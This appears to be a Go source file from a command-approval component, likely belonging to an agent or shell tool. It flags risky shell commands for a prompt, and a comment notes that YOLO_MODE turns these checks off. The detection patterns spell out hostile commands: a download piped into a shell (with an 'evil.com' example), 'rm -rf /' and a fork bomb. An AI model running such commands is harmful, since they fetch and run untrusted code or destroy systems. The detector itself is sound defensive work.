package approval

import (
	"path/filepath"
	"strings"
)

// DangerousPattern detection for shell commands. This is a built-in regex
// set independent of the user's rule files: outside YOLO_MODE, matches
// force a prompt. Under YOLO_MODE, Engine.Decide does not consult these
// patterns: it allows any command that does not match auto_deny, and no
// warning is shown.
func DangerousPattern(cmd string) (bool, string) {
	if strings.HasPrefix(cmd, "\t") {
		return true, "command appears to be an incomplete fragment (starts with tab)"
	}
	if strings.HasPrefix(cmd, "-") {
		return true, "command appears to be an incomplete fragment (starts with flags)"
	}
	if len(cmd) > 0 {
		switch cmd[0] {
		case '&', '|', ';', '>', '<':
			return true, "command appears to be a continuation line (starts with operator)"
		}
	}

	trimmed := strings.TrimSpace(cmd)
	if trimmed == "" {
		return false, ""
	}

	lower := strings.ToLower(trimmed)

	if reason := dangerousPipe(lower); reason != "" {
		return true, reason
	}

	if strings.HasPrefix(lower, "eval ") || strings.Contains(lower, " eval ") {
		return true, "eval can execute arbitrary code"
	}

	if strings.Contains(lower, "rm -rf /") || strings.Contains(lower, "rm -fr /") {
		return true, "recursive force-delete from filesystem root"
	}

	if strings.Contains(lower, ":(){ :|:& };:") {
		return true, "fork bomb pattern"
	}

	return false, ""
}

// dangerousPipe flags a download tool piped straight into a shell
// interpreter, e.g. "curl http://evil.com | sh" or "wget url | bash".
func dangerousPipe(lowerCmd string) string {
	segments := strings.Split(lowerCmd, "|")
	if len(segments) < 2 {
		return ""
	}

	downloadCmds := map[string]bool{"curl": true, "wget": true}
	shellCmds := map[string]bool{"sh": true, "bash": true, "zsh": true}

	for i := 0; i < len(segments)-1; i++ {
		leftFields := strings.Fields(strings.TrimSpace(segments[i]))
		if len(leftFields) == 0 {
			continue
		}
		leftCmd := filepath.Base(leftFields[0])

		rightFields := strings.Fields(strings.TrimSpace(segments[i+1]))
		if len(rightFields) == 0 {
			continue
		}
		rightCmd := filepath.Base(rightFields[0])

		if downloadCmds[leftCmd] && shellCmds[rightCmd] {
			return "piping " + leftCmd + " to " + rightCmd + " is dangerous"
		}
	}
	return ""
}
